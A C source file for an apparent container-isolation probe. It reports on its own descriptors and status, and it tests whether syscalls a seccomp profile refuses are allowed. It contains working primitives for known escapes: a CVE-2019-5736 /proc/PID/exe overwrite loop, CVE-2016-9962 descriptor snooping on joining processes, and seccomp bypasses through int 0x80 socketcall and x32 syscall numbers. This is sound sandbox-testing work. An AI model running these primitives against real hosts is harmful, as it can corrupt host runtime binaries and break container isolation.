/*
 * What a process finds about itself inside a container, and the attacks that it may try from there. One line a finding: a word, a tab, the rest.
 *
 *   probe audit            descriptors, working directory, and what /proc/self/status says
 *   probe overwrite MS FILE…
 *                        opens each FILE (/proc/PID/exe, say), holds it, and tries for MS to have it writable: "wrote" or the errno's name
 *   probe snoop FILE       looks at the descriptors of each process that appears, until FILE is there
 *   probe surface          calls what a default seccomp profile must refuse
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void result(const char *name, long value) { printf("%s\t%s\n", name, value < 0 ? strerrorname_np(errno) : "allowed"); }

static int audit(void) {
    char path[300], target[4096], line[8192];
    DIR *folder = opendir("/proc/self/fd");
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(folder)) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%s", entry->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        printf("fd\t%s %.*s\n", entry->d_name, (int)(n < 0 ? 0 : n), target);
    }
    if (folder) closedir(folder);
    char *cwd = getcwd(target, sizeof target);
    printf("cwd\t%s\n", cwd ? cwd : strerrorname_np(errno));
    printf("session\t%d %d %d\n", getpid(), getsid(0), getpgrp());
    FILE *status = fopen("/proc/self/status", "re");
    while (status && fgets(line, sizeof line, status)) {
        char *colon = strchr(line, ':');
        if (colon) *colon = 0, printf("%s\t%s", line, colon + 1 + strspn(colon + 1, " \t"));
    }
    return 0;
}

/* CVE-2019-5736: a file that is being executed cannot be written (ETXTBSY), so the attacker holds it open until the execution is over. */
static const char *overwrite(const char *file, int milliseconds) {
    char path[64], byte = '#';
    int held = open(file, O_RDONLY | O_CLOEXEC);
    if (held < 0) return strerrorname_np(errno);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int out = -1;
    for (int tries = 0; tries < milliseconds && out < 0; tries++) {
        out = open(path, O_WRONLY | O_CLOEXEC);
        if (out < 0 && errno != ETXTBSY) break;
        if (out < 0) usleep(1000);
    }
    if (out < 0) return strerrorname_np(errno);
    return write(out, &byte, 1) == 1 ? "wrote" : strerrorname_np(errno);
}

/* CVE-2016-9962: each process that joins the container, while it is still being prepared: which of its descriptors can be had? */
static void look_at(const char *pid) {
    char path[300], target[4096];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *folder = opendir(path);
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (entry->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        struct stat s;
        if (n < 0 || stat(path, &s) < 0 || !S_ISDIR(s.st_mode)) continue;
        printf("folder\t%.*s\n", (int)n, target);
        fflush(stdout);
    }
    if (folder) closedir(folder);
}

static int snoop(const char *stop) {
    printf("ready\t\n");
    fflush(stdout);
    int own = getpid();
    long seen = 0;
    while (access(stop, F_OK) < 0) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != own) look_at(entry->d_name), seen++;
        }
        if (all) closedir(all);
    }
    printf("seen\t%ld\n", seen);
    return 0;
}

static int surface(void) {
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    struct io_uring_params ring = {0};
    unsigned long nothing = 0;
    result("socket AF_ALG", socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0));
    result("socket AF_VSOCK", socket(40 /* AF_VSOCK */, SOCK_STREAM, 0));
    result("unshare", syscall(SYS_unshare, CLONE_NEWNS));
    long child = syscall(SYS_clone, CLONE_NEWUSER, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    result("clone user", child);
    result("clone3", syscall(SYS_clone3, 0, 0));
    result("mount", syscall(SYS_mount, "none", "/", "tmpfs", 0, 0));
    result("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    result("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    result("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
    result("mount_setattr", syscall(SYS_mount_setattr, -1, "", 0, &nothing, 0));
    result("setns", syscall(SYS_setns, -1, 0));
    result("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -3, 0));
    result("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -2));
    result("request_key", syscall(SYS_request_key, "user", "probe", 0, 0));
    result("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map));
    result("userfaultfd", syscall(SYS_userfaultfd, 0));
    result("io_uring_setup", syscall(SYS_io_uring_setup, 1, &ring));
    result("perf_event_open", syscall(SYS_perf_event_open, &nothing, 0, -1, -1, 0));
    result("kexec_load", syscall(SYS_kexec_load, 0, 1, &nothing, 0xffff));
    result("init_module", syscall(SYS_init_module, 0, 0, ""));
    result("finit_module", syscall(SYS_finit_module, -1, "", 0));
    result("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, &nothing, 0));
    result("pivot_root", syscall(SYS_pivot_root, "/nowhere", "/nowhere"));
    result("swapon", syscall(SYS_swapon, "/nowhere", 0));
    result("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
    result("quotactl", syscall(SYS_quotactl, 0, 0, 0, 0));
    result("acct", syscall(SYS_acct, "/nowhere"));
    result("unshare user", syscall(SYS_unshare, CLONE_NEWUSER));
    result("getpid", syscall(SYS_getpid));
    result("socket AF_UNIX", socket(AF_UNIX, SOCK_STREAM, 0));
#ifdef __x86_64__
    /* socketcall(SYS_SOCKET, {AF_ALG, SOCK_SEQPACKET, 0}) by the 32-bit door: its arguments lie in memory, where no filter can read them. */
    static unsigned arguments[3] __attribute__((section(".data"))) = {38, SOCK_SEQPACKET, 0};
    long value = -ENOSYS;
    if ((unsigned long)arguments < 0xffffffffu)
        __asm__ volatile("int $0x80" : "=a"(value) : "a"(102), "b"(1), "c"(arguments), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    errno = value < 0 ? (int)-value : 0;
    result("socketcall AF_ALG", value < 0 ? -1 : 0);
    /* x32: the same numbers with a bit set are another table. */
    result("x32 getpid", syscall(0x40000000 | SYS_getpid));
#endif
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "audit")) return audit();
    if (!strcmp(what, "surface")) return surface();
    if (!strcmp(what, "snoop") && argc == 3) return snoop(argv[2]);
    if (!strcmp(what, "overwrite"))
        for (int i = 3; i < argc; i++) printf("%s\t%s\n", argv[i], overwrite(argv[i], atoi(argv[2])));
    else return 2;
    return 0;
}
